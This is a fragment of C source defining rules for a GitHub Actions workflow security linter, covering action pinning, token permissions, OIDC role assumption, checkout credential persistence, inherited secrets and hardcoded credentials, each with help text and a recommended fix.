                "(`./…`) are exempt; `docker://` images must be pinned by `@sha256:` digest.\n\n"
                "Fix: `uses: owner/action@<40-hex SHA> # v1.2.3` (Dependabot keeps such pins "
                "current).",
    },
    {
        .id = "gha/excessive-permissions",
        .title = "Jobs get only the token permissions they need",
        .severity = SEV_WARNING,
        .kinds = KIND_WORKFLOW,
        .scope = SCOPE_ALL,
        .persona = PERSONA_REGULAR,
        .origin = "zizmor excessive-permissions",
        .check = check_permissions,
        .help = "Every step of a job can use its GITHUB_TOKEN. A job with no `permissions:` "
                "(neither on the job nor at the top of the workflow) gets the repository's "
                "default, which on older repositories is write access to everything: reported "
                "at the job key. `write-all`, and a `write` scope given to jobs whose steps are "
                "all known not to write (checkout, setup and cache actions, scripts that do not "
                "use the token, `gh`, `git push` or a registry), are reported at the value. "
                "`id-token: write` on a job that assumes a cloud role is what it needs. Jobs of "
                "a reusable workflow get their caller's permissions; a job calling a reusable "
                "workflow of this repository counts the permissions set there.\n\n"
                "Fix: `permissions: {contents: read}` at the top, and the write scopes on the "
                "jobs that need them.",
    },
    {
        .id = "gha/aws-static-credentials",
        .title = "AWS access uses OIDC, not long-lived keys",
        .severity = SEV_ERROR,
        .kinds = KIND_WORKFLOW,
        .scope = SCOPE_ALL,
        .persona = PERSONA_REGULAR,
        .origin = "security",
        .check = check_aws_static,
        .help = "An access key in a repository secret works until it leaks, and is rarely "
                "rotated. `aws-actions/configure-aws-credentials` can instead assume a role "
                "through GitHub's OIDC token: short-lived credentials, restricted by the role's "
                "trust policy to this repository and branch or environment. Reported at "
                "`aws-access-key-id`.\n\n"
                "Fix: create an IAM role trusting `token.actions.githubusercontent.com`, give "
                "the job `permissions: {id-token: write}`, and pass `role-to-assume:` instead of "
                "the keys.",
    },
    {
        .id = "gha/oidc-permission",
        .title = "Jobs that assume a role can request an OIDC token, and only they",
        .severity = SEV_ERROR,
        .kinds = KIND_WORKFLOW,
        .scope = SCOPE_ALL,
        .persona = PERSONA_REGULAR,
        .origin = "security",
        .check = check_oidc,
        .help = "`role-to-assume` without static keys needs the OIDC token, which GitHub issues "
                "only with `id-token: write` in effect (job or workflow level, or the calling "
                "job's for a reusable workflow): without it the job fails when it runs. "
                "Conversely, `id-token: write` granted to the whole workflow also reaches jobs "
                "that run untrusted code (a checkout of the pull request head on "
                "`pull_request_target`, `workflow_run` or `issue_comment`), which can then "
                "request cloud credentials.\n\n"
                "Fix: `permissions: {id-token: write, contents: read}` on the deploy job only.",
    },
    {
        .id = "gha/persist-credentials",
        .title = "Checkouts do not leave the token on disk",
        .severity = SEV_NOTE,
        .kinds = KIND_WORKFLOW,
        .scope = SCOPE_ALL,
        .persona = PERSONA_PEDANTIC,
        .origin = "zizmor artipacked",
        .check = check_persist,
        .help = "`actions/checkout` writes the token into `.git/config` unless told otherwise; "
                "every later step (third-party actions included) can read it, and an upload of "
                "the workspace as an artifact publishes it.\n\n"
                "Fix: `with: {persist-credentials: false}`; a step that pushes can pass the "
                "token explicitly.",
    },
    {
        .id = "gha/secrets-inherit",
        .title = "Reusable workflows get only the secrets they use",
        .severity = SEV_WARNING,
        .kinds = KIND_WORKFLOW,
        .scope = SCOPE_ALL,
        .persona = PERSONA_REGULAR,
        .origin = "zizmor secrets-inherit",
        .check = check_inherit,
        .help = "`secrets: inherit` hands every repository, organisation and environment secret "
                "to the called workflow — including ones it never needed, and to every future "
                "version of it.\n\n"
                "Fix: pass the secrets it uses by name: `secrets: {TOKEN: ${{ secrets.TOKEN }}}`.",
    },
    {
        .id = "gha/hardcoded-credential",
        .title = "No credentials are written into the workflow",
        .severity = SEV_ERROR,
        .kinds = KIND_WORKFLOW,
        .scope = SCOPE_ALL,
        .persona = PERSONA_REGULAR,
        .origin = "zizmor hardcoded-container-credentials",
        .check = check_hardcoded,
        .help = "A literal value (not `${{ … }}`, not empty, not a boolean) for a key named like "
                "a credential (`password`, `passwd`, `token`, `secret`, `api_key`/`apikey`, "
                "`access_key`, `private_key`, `client_secret`, as a whole name or its last "
                "part: `DB_PASSWORD`, `npmToken`; not `key` or `cache-key`) in the workflow's, a "
                "job's or a step's `env:`, a step's or reusable call's `with:`, or a container's "
                "or service's `credentials:`. The environment of service containers is not "
                "checked (it configures throwaway test databases). The message never repeats "
                "the value.\n\n"
                "Fix: store the value as a secret and write `${{ secrets.NAME }}`; rotate the "
                "exposed one.",
    },
    {0},
};
